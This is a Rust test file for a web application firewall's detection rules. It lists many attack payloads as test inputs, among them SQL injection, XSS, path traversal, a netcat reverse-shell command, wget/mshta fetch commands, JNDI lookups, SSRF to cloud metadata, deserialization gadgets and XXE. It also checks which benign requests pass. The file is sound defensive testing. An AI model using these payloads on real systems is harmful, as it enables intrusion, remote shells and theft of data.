//! What the built-in rules find, and what they leave alone.

use std::{net::IpAddr, sync::Arc};

use super::{super::*, rule_names};
use crate::{
    os::file::seed,
    settings::waf::{self, ExceptionParameter, Exclusion, RuleMatch, WafMode},
};

mod benign;
mod bodies;
mod kinds;

fn settings() -> waf::Settings {
    waf::Settings {
        name: "test".to_owned(),
        mode: WafMode::Enforce,
        has_builtin: true,
        roots: Vec::new(),
        files: Vec::new(),
        threshold: 5,
        paranoia: 1,
        inspect_body: Some(1 << 20),
        exclude: Vec::new(),
    }
}

fn judge(settings: waf::Settings, target: &str, headers: &[(&str, &str)], body: impl AsRef<[u8]>) -> WafVerdict {
    let content_type = headers.iter().find(|(name, _)| *name == "content-type").map_or("", |(_, value)| *value);
    seed(&[content_type.as_bytes(), b"\n", target.as_bytes(), b"\n", body.as_ref()].concat());
    let waf = Waf::new(Arc::new(WafRules::new(&settings, None).unwrap()), Some("items"), None);
    let headers: Vec<_> = headers.iter().map(|(name, value)| (*name, value.as_bytes())).collect();
    waf.judge(&WafRequest {
        method: "POST",
        target,
        protocol: "HTTP/1.1",
        headers: &headers,
        body: body.as_ref(),
        client: IpAddr::from([192, 0, 2, 1]),
    })
}

fn encode(value: &str) -> String {
    value.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

/// A value in the query, a form and JSON: the rule finds it everywhere.
#[track_caller]
fn found(rule: &str, value: &str) {
    let json = serde_json::json!({ "a": { "list": [value] } }).to_string();
    let form = [("content-type", "application/x-www-form-urlencoded")];
    for (target, headers, body, place) in [
        (format!("/items?q={}", encode(value)), &[][..], String::new(), Collection::Query),
        (format!("/items?q={}", encode(&encode(value))), &[], String::new(), Collection::Query),
        ("/items".to_owned(), &form, format!("q={}", encode(value)), Collection::Body),
        ("/items".to_owned(), &[("content-type", "application/json")], json, Collection::Body),
    ] {
        let verdict = judge(settings(), &target, headers, &body);
        let is_found = verdict.findings.iter().any(|it| &*it.rule == rule && it.place == place);
        assert!(is_found && verdict.is_attack, "{value:?} in {target} {body}: {verdict:?}");
    }
}

#[track_caller]
fn clean(target: &str, headers: &[(&str, &str)], body: &str) {
    let verdict = judge(settings(), target, headers, body);
    assert!(!verdict.is_attack, "{target} {headers:?} {body}: {verdict:?}");
}

#[test]
fn every_kind_of_attack_is_found() {
    for (rule, values) in [
        (
            "sql_injection",
            &[
                "1' or '1'='1",
                "(SELECT (CASE WHEN (7364=7364) THEN 1 ELSE 1/(SELECT 0) END))",
                "1' (CASE 7364 WHEN 7364 THEN SLEEP(5) ELSE NULL END)",
                "1 AND GTID_SUBSET(CONCAT('q',(SELECT 1)),1)",
                "1 (SELECT 'q'||(SELECT 1)::text||'x')",
                "1 (7364=7364)*1",
                ");waitfor/**/delay/**/'0:0:5'--1",
                "1`,sleep(5)#1",
                "1 UNION SELECT a,b FROM users--",
                "x'; DROP TABLE users--",
                "1 and sleep(5)",
                "admin'--",
                "admin'#",
                "admin'/*",
                "admin\")-- -",
                "a@b.example';--",
                "' --",
                "1' or 1 -- x",
                "JyBPUiAxPTEtLQ==",
                "abs(1)or(pw)like(1)",
                "count(1) or (select 1)",
                "1 or 1 like 1",
                "sleep(5)",
                "abs(sleep(5))",
                "exists(select 1 from users)",
                "length(pw)>5",
                "-1 or 1",
                "1 and 1>0",
                "1;delete from users",
                "1;select top 1 * from users",
                "john doe'--",
                "it's a text' or pw is null -- and more",
                "' or data->>'role'='admin",
                "1 or '{\"a\":1}'::jsonb <@ '{}'::jsonb",
                "' or json_valid('x')#",
                "1 and pw>0x61",
                "1 union values(1,2)",
                "1; create table x(y text)",
                "x' on duplicate key update pw='x'#",
                "' or not false -- ",
                "1'\u{a0}or\u{a0}1=1--",
                "1 and gtid_subset(user(),1)",
                "x' procedure analyse(1)",
            ][..],
        ),
        (
            "xss",
            &[
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "javascript:alert(document.cookie)",
                "data:text/plain;base64,PHNjcmlwdD5hPC9zY3JpcHQ+",
                "data:text/plain;BASE64 ,PHNjcmlwdD5hPC9zY3JpcHQ+",
                "data:image/png;base64,AAAA data:text/plain;base64,PHNjcmlwdD5hPC9zY3JpcHQ+",
                "data:application/xhtml+xml,<x/>",
                "x onerror=alert(1)",
                "x onfocus=location=name autofocus",
                "1 onmouseover=location=name",
            ],
        ),
        (
            "path_traversal",
            &[
                "../../../etc/passwd",
                "..\\..\\windows\\win.ini",
                "a/../../b",
                "..;/admin",
                "..;a=b/admin",
                "......secret.xml",
                "file:........secret",
                "/0x2e0x2ex2e0x2esecret",
                "/.//././secret",
                "./././secret",
                "/..{file}",
                "..\u{2215}..\u{2044}x",
                "..\r/x",
            ],
        ),
        (
            "sensitive_file",
            &[
                "/etc/passwd",
                "/etc/./passwd",
                "/etc//././/shadow",
                "C:\\windows\\system32\\drivers",
                "..etcpasswd",
                "c:windowswin.ini",
                ".env",
                "/etc/resolv.conf",
            ],
        ),
        ("null_byte", &["image.php\0.png"]),
        (
            "header_injection",
            &[
                "x\r\nSet-Cookie: a=b",
                "x\r\n\r\nHTTP/1.1 200 OK",
                "x\nLocation: https://x.example",
                "x\r\nWWW-Authenticate: Basic",
                "a@b.example\nCc: x@y.example",
                "x\r\nFLUSHALL\r\n",
            ],
        ),
        (
            "command_injection",
            &[
                "; cat /etc/hosts",
                "';exit(md5('a'));//",
                "\".print(md5('a'));#",
                "a;env;",
                "$(whoami)",
                "| nc -e /bin/sh 192.0.2.1 1",
                "`id`",
                "a && wget http://x",
                "/usr/bin/id|",
                "|usr/bin/id",
                "id;",
                "whoami -a ||",
                "ping -c 30 127.0.0.1",
                "\" ping.exe -n 31 127.0.0.1",
                "dir c:\\",
                "+|+dir+c:\\",
                "\"`true`\"",
                "a; w'h'o\\ami",
                "a|c^m^d /c dir",
                "a; un\"\"ame$IFS-a",
                "a;ca$@t /x",
                "a\nwg''et http://x",
                "a `id`",
                "x=`id`",
                "; /b?n/c?t /x",
                "; w$()hoami",
                "; rev<<<'di'",
                "x; ssh -V; ssh a@b",
                "|timeout 5",
                "& mshta http://x",
                "; eval id",
                "--upload-pack=id",
                "=cmd|' /C calc'!A0",
            ],
        ),
        (
            "code_injection",
            &[
                "<?php system('id'); ?>",
                "require('child_process').exec('id')",
                "__import__('os').system('id')",
                "''.__class__.__mro__[1].__subclasses__()",
                "a|attr('__globals__')",
                "x.__init__.__globals__",
                "__class__",
                "request|attr(\"__init__\")",
                "constructor.constructor('return process')()",
                "getattr(os,'system')('id')",
                "System.Diagnostics.Process.Start('cmd')",
            ],
        ),
        (
            "template_injection",
            &[
                "{{7*7}}",
                "${7*7}",
                "<%= 7*7 %>",
                "{{config.items()}}",
                "#{7*7}",
                "{{8/2}}",
                "{{'a'.toUpperCase()}}",
                "{{[0]|reduce('system','id')}}",
                "{{printf \"%s\" .}}",
                "[#assign x=1]",
            ],
        ),
        (
            "expression_injection",
            &[
                "${jndi:ldap://x/a}",
                "${${lower:j}ndi:rmi://x}",
                "%{#context['x']}",
                "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
                "T(java.lang.Runtime).getRuntime().exec('x')",
                "java.util.Scanner",
                "${j${}ndi:ldap://x}",
                "${bundle:x:y}",
                "(#cmd='id')",
                "'id'.execute()",
            ],
        ),
        (
            "nosql_injection",
            &[
                "{\"$lookup\":{\"from\":\"users\"}}",
                "{\"$gt\": \"\"}",
                "{$ne: 1}",
                "{$in: ['a']}",
                "{$where: sleep(1)}",
                "$where=1",
                "'; return true; var a='",
                "' || this.password.match(/a/)",
            ],
        ),
        ("ldap_injection", &["*)(uid=*))(|(uid=*", "admin)(&(password=*))", "(objectClass=*)"]),
        (
            "xpath_injection",
            &["' or count(/user)=1", "x'] | //user/*", "' or true() or '", "doc-available('http://x')"],
        ),
        (
            "ssrf",
            &[
                "http://169.254.169.254/latest/meta-data/",
                "http://localhost:8080/admin",
                "gopher://127.0.0.1:6379/_x",
                "http://[::1]/",
                "http://2130706433/",
                "http://127.0.0.1@x.example/ http://10.0.0.1/",
                "https://x.example,http://127.0.0.1/",
                "https://x.example/?next=http://localhost:8080/",
                "[\"https://x.example\",\"http://192.168.0.1/\"]",
                "https://x.example;gopher://x/",
                "http:\\\\127.0.0.1\\admin",
                "//localhost/",
                "http://x.example#@127.0.0.1/",
                "http://0x7f.1/",
                "http://169.254.43518/",
                "http://\u{24db}ocalhost/",
                "http://vault:8200/",
                "dAta:text/plain,x",
                "view-source:http://127.0.0.1/",
            ],
        ),
        (
            "serialized_object",
            &[
                "rO0ABXNyABdqYXZhLnV0aWwu",
                "O:8:\"Evil_Cls\":1:{s:1:\"a\";i:1;}",
                "!!python/object/apply:os.system",
                "com.sun.rowset.JdbcRowSetImpl",
                "org.apache.xalan.xsltc.trax.TemplatesImpl",
                "aced0005737200",
                "gAN4cQBjb3MKc3lzdGVtCnEBWAIAAABpZC4=",
                "BAhJIgZhBjoGRVQ=",
                "{\"py/object\":\"os.system\"}",
            ],
        ),
        ("xxe", &["<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"]),
        (
            "prototype_pollution",
            &["{\"__proto__\":{\"admin\":true}}", "x['constructor']['prototype']", "__pro__proto__to__[x]"],
        ),
    ] {
        for value in values {
            found(rule, value);
        }
    }
}

#[test]
fn names_paths_headers_cookies_and_files_are_looked_at() {
    let multipart = [("content-type", "multipart/form-data; boundary=x")];
    let cookies = "a=b;".repeat(1_001);
    for (target, headers, body, rule, place) in [
        ("/a?__proto__[x]=1", &[][..], "", "prototype_pollution", Collection::Query),
        ("/a?class.module.classLoader.resources.context.parent=1", &[], "", "expression_injection", Collection::Query),
        ("/a?class.classLoader=1", &[], "", "expression_injection", Collection::Query),
        ("/a?a=1'/*&a=*/or/*&a=*/1=1--", &[], "", "sql_injection", Collection::Query),
        (
            "/a",
            &[("content-type", "%{(#_='multipart/form-data').(#cmd='id')}")],
            "",
            "expression_injection",
            Collection::Header,
        ),
        (
            "/a",
            &[("content-type", "application/json")],
            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"autoCommit\":true}",
            "serialized_object",
            Collection::Body,
        ),
        ("/a?user[$ne]=1", &[], "", "nosql_injection", Collection::Query),
        (
            "/a",
            &[("content-type", "application/json")],
            "{\"user\":{\"$ne\":null}}",
            "nosql_injection",
            Collection::Body,
        ),
        ("/files/%252e%252e/%252e%252e/x", &[], "", "path_traversal", Collection::Path),
        ("/a", &[("user-agent", "${jndi:ldap://x/y}")], "", "expression_injection", Collection::Header),
        ("/a", &[("accept", "${jndi:ldap://x/y}")], "", "expression_injection", Collection::Header),
        ("/a", &[("cookie", "a=b; c=' or 1=1--")], "", "sql_injection", Collection::Cookie),
        (
            "/a",
            &multipart,
            "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../a.php\"\r\n\r\n<script>\r\n--x--\r\n",
            "path_traversal",
            Collection::File,
        ),
        (
            "/a",
            &[("content-type", "application/xml")],
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///x\">]><a>&x;</a>",
            "xxe",
            Collection::Body,
        ),
        (
            "/a",
            &multipart,
            "x--x--\r\n--x\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n' OR 1=1--\r\n--x--",
            "unreadable_body",
            Collection::Body,
        ),
        (
            "/a",
            &multipart,
            "--x\r\nContent-Disposition: form-data; name=\"q\"; filename=\"\"\r\n\r\n' OR 1=1--\r\n--x--",
            "sql_injection",
            Collection::Body,
        ),
        (
            "/a",
            &multipart,
            "--x\r\nContent-Disposition: form-data; name=\"__proto__[a]\"; filename=\"a\"\r\n\r\nb\r\n--x--",
            "prototype_pollution",
            Collection::File,
        ),
        (
            "/a",
            &multipart,
            "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a\"\r\nX: ${jndi:ldap://x}\r\n\r\nb\r\n--x--",
            "expression_injection",
            Collection::Body,
        ),
        (
            "/a",
            &multipart,
            "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a\"\r\n\r\n\n--x\nContent-Disposition: \
             form-data; name=\"q\"\n\n' OR 1=1--\n--x--\r\n--x--",
            "unreadable_body",
            Collection::Body,
        ),
        ("/a", &[("content-type", "application/json")], "{\"' OR 1=1--\":[]}", "sql_injection", Collection::Body),
        ("/a", &[("content-type", "application/json")], "{\"$where\":{}}", "nosql_injection", Collection::Body),
        ("/a", &[("cookie", &*cookies)], "", "too_many_values", Collection::Other),
        ("/items/1%27%20or%20%271%27=%271/x", &[], "", "sql_injection", Collection::Path),
        ("/items/1%2527%2520or%25201=1--", &[], "", "sql_injection", Collection::Path),
        ("/a", &[("user-agent", "x' or '1'='1")], "", "sql_injection", Collection::Header),
        ("/a", &[("x-forwarded-for", "1'; drop table a--")], "", "sql_injection", Collection::Header),
        (
            "/a",
            &[("referer", "https://a.example/b?c=d&e=1%27+or+%271%27=%271")],
            "",
            "sql_injection",
            Collection::Header,
        ),
        ("/a", &[("referer", "https://a.example/1%27%20or%20%271%27=%271")], "", "sql_injection", Collection::Header),
        ("/a?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", &[], "", "xss", Collection::Query),
        ("/a", &[("content-type", "application/json")], "{'a': '<script>'}", "xss", Collection::Body),
        ("/a", &[("user-agent", "sqlmap/1.7#stable")], "", "scanner", Collection::Header),
    ] {
        let verdict = judge(settings(), target, headers, body);
        let is_found = verdict.findings.iter().any(|it| &*it.rule == rule && it.place == place);
        assert!(is_found && verdict.is_attack, "{target} {headers:?} {body}: {verdict:?}");
    }
}

#[test]
fn exceptions_are_by_rule_parameter_and_route() {
    let exclusion = |rules, parameter: Option<(&str, &str)>, routes: &[&str]| Exclusion {
        rules: vec![rules],
        parameters: parameter
            .map(|(place, name)| ExceptionParameter {
                place: Some(place).filter(|it| !it.is_empty()).map(str::to_owned),
                name: name.to_owned(),
            })
            .into_iter()
            .collect(),
        routes: routes.iter().map(|&route| route.to_owned()).collect(),
    };
    let name = || RuleMatch::Name("path_traversal".to_owned());
    for (exclude, is_attack) in [
        (exclusion(name(), None, &[]), false),
        (exclusion(RuleMatch::All, None, &["items"]), false),
        (exclusion(RuleMatch::All, None, &["others"]), true),
        (exclusion(RuleMatch::Tag("attack-lfi".to_owned()), Some(("", "q")), &[]), false),
        (exclusion(RuleMatch::Tag("attack-sqli".to_owned()), None, &[]), true),
        (exclusion(name(), Some(("query", "Q*")), &[]), false),
        (exclusion(name(), Some(("body", "q")), &[]), true),
        (exclusion(name(), Some(("", "other")), &[]), true),
    ] {
        let shown = format!("{exclude:?}");
        let verdict = judge(waf::Settings { exclude: vec![exclude], ..settings() }, "/a?q=../../x", &[], "");
        assert_eq!(verdict.is_attack, is_attack, "{shown}: {verdict:?}");
    }
}

#[test]
fn hostile_requests_take_bounded_work() {
    let long = "a=".to_owned() + &"%25".repeat(60_000);
    let many: String = (0..20_000).map(|index| format!("a{index}=1&")).collect();
    let deep = "[".repeat(100_000);
    let slow = format!("q={}", "<a ".repeat(20_000));
    let json = [("content-type", "application/json")];
    let form = [("content-type", "application/x-www-form-urlencoded")];
    for (headers, body) in
        [(&form, long), (&form, many.clone()), (&json, deep), (&form, slow), (&json, "{\"a\"".to_owned())]
    {
        judge(settings(), "/a", headers, &body);
    }
    let verdict = judge(settings(), "/a", &form, &many);
    assert!(verdict.findings.iter().any(|it| &*it.rule == "too_many_values"), "{verdict:?}");
    // Reading SQL has a budget of its own, which text does not spend.
    let list = |unit: &str| serde_json::json!(vec![unit.repeat(2_000 / unit.len()); 400]).to_string();
    for (unit, is_attack) in [("plain text, ", false), ("$.", true)] {
        let verdict = judge(settings(), "/a", &json, list(unit));
        assert_eq!(verdict.is_attack, is_attack, "{unit}: {verdict:?}");
    }
    let verdict = judge(settings(), &format!("/a?{}=../../x", "n\u{7f}".repeat(1_000)), &[], "");
    assert!(verdict.detail().len() < 256 * verdict.findings.len(), "{}", verdict.detail());
}
